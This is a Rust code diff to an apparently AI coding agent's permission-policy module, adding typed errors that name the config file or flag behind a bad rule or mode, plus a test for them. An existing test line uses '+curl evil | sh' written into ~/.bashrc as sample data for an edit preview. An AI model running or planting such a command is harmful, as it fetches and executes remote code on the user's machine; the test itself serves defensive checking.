@@ -16,7 +16,7 @@ use serde_json::{Value, json};
 use tern_agent_loop::{BeforeToolCall, Hooks, ToolCallResult};
 use tern_policy::engine::{Decision, Mode, Policy, PolicySetup, RoleCap, Verdict};
 use tern_policy::hooks::{HookDecision, HookEvent, HookOutcome, HookRunner};
-use tern_policy::rules::{Rule, RuleContext, RuleKind, split_rule_list};
+use tern_policy::rules::{Rule, RuleContext, RuleError, RuleKind, split_rule_list};
 use tern_protocol::{Confinement, ToolCall, ToolResultContent};
 use tokio_util::sync::CancellationToken;
 
@@ -125,6 +125,29 @@ pub struct ConfigLayers<'a> {
     pub project_layers: Vec<(&'a FileConfig, &'a Path, &'a Path)>,
 }
 
+/// Why the policy cannot be built: a rule or a mode that cannot be read,
+/// with the file or flag it came from (`origin`).
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum PolicyError {
+    /// A rule in `allow`, `ask` or `deny` (or `--allowed-tools` /
+    /// `--disallowed-tools`) that cannot be read; the message quotes it.
+    #[error("{origin}: {error}")]
+    Rule {
+        /// The config file, or the flag.
+        origin: String,
+        /// The rule and what is wrong with it.
+        error: RuleError,
+    },
+    /// A `mode` (or `--permission-mode`) that names no permission mode.
+    #[error("{origin}: {error}")]
+    Mode {
+        /// The config file, or the flag.
+        origin: String,
+        /// The word given.
+        error: tern_protocol::UnknownMode,
+    },
+}
+
 /// Build the policy from config files and flags. Rules keep the file or
 /// flag they came from, so every decision can name it.
 pub fn build_policy(
@@ -134,12 +157,14 @@ pub fn build_policy(
     protected: Vec<PathBuf>,
     readable: Vec<PathBuf>,
     warnings: &mut Vec<String>,
-) -> Result<Policy, String> {
+) -> Result<Policy, PolicyError> {
     let ConfigLayers { user, user_file, project, project_file, project_layers } = layers;
     let mut rules = Vec::new();
-    let mut add_in = |texts: &[String], kind: RuleKind, source: &str, ctx: &RuleContext| -> Result<(), String> {
+    let mut add_in = |texts: &[String], kind: RuleKind, source: &str, ctx: &RuleContext| -> Result<(), PolicyError> {
         for text in texts.iter().flat_map(|t| split_rule_list(t)) {
-            rules.push(Rule::parse(&text, kind, source, ctx).map_err(|e| format!("{source}: {e}"))?);
+            let rule = Rule::parse(&text, kind, source, ctx)
+                .map_err(|error| PolicyError::Rule { origin: source.to_string(), error })?;
+            rules.push(rule);
         }
         Ok(())
     };
@@ -164,7 +189,8 @@ pub fn build_policy(
     }
     add(&flags.allowed_tools, RuleKind::Allow, "--allowed-tools")?;
     add(&flags.disallowed_tools, RuleKind::Deny, "--disallowed-tools")?;
-    let parse_mode = |s: &str, origin: &str| s.parse::<Mode>().map_err(|e| format!("{origin}: {e}"));
+    let parse_mode =
+        |s: &str, origin: &str| s.parse::<Mode>().map_err(|error| PolicyError::Mode { origin: origin.into(), error });
     let mut mode = Mode::Default;
     if let Some(m) = &user.permissions.mode {
         mode = parse_mode(m, &user_file.display().to_string())?;
@@ -741,11 +767,13 @@ impl Hooks for PolicyHooks {
 pub(crate) struct PolicyGate(pub(crate) Arc<Policy>);
 
 impl tern_tools::web_fetch::NetworkGate for PolicyGate {
-    fn hop(&self, url: &str) -> Result<(), String> {
+    fn hop(&self, url: &str) -> Result<(), tern_tools::web_fetch::HopRefused> {
         let d = self.0.decide("web_fetch", &serde_json::json!({"url": url}));
         match d.verdict {
             tern_policy::engine::Verdict::Allow => Ok(()),
-            tern_policy::engine::Verdict::Ask | tern_policy::engine::Verdict::Deny => Err(d.reason),
+            tern_policy::engine::Verdict::Ask | tern_policy::engine::Verdict::Deny => {
+                Err(tern_tools::web_fetch::HopRefused { url: url.to_string(), why: d.reason })
+            }
         }
     }
 
@@ -770,6 +798,31 @@ mod tests {
             tern_protocol::JudgedPath { real: tern_policy::rules::resolve_path("~/.bashrc", &ctx), identity: None };
         let diff = tern_tools::edit::change_preview(&judged, "write", &input).unwrap();
         assert!(diff.contains("-alias ll='ls -l'") && diff.contains("+curl evil | sh"), "{diff}");
+    }
+
+    #[test]
+    fn a_policy_error_names_the_file_or_flag_and_the_rule() {
+        let user = FileConfig::default();
+        let mut project = FileConfig::default();
+        project.permissions.mode = Some("yolo".into());
+        let build = |project: &FileConfig, flags: &PermissionFlags| {
+            let layers = ConfigLayers {
+                user: &user,
+                user_file: Path::new("/home/me/.config/tern/config.toml"),
+                project,
+                project_file: Path::new("/src/app/.tern/config.toml"),
+                project_layers: vec![],
+            };
+            let ctx = RuleContext { workspace: "/src/app".into(), home: None };
+            build_policy(layers, flags, ctx, vec![], vec![], &mut Vec::new()).err().unwrap()
+        };
+        let err = build(&project, &PermissionFlags::default());
+        assert!(matches!(&err, PolicyError::Mode { origin, .. } if origin == "/src/app/.tern/config.toml"), "{err:?}");
+        assert!(err.to_string().starts_with("/src/app/.tern/config.toml: unknown permission mode `yolo`"), "{err}");
+        let flags = PermissionFlags { allowed_tools: vec!["bash(".into()], ..Default::default() };
+        let err = build(&FileConfig::default(), &flags);
+        assert!(matches!(&err, PolicyError::Rule { error, .. } if error.rule == "bash("), "{err:?}");
+        assert!(err.to_string().starts_with("--allowed-tools: rule `bash(`"), "{err}");
     }
 
     #[test]
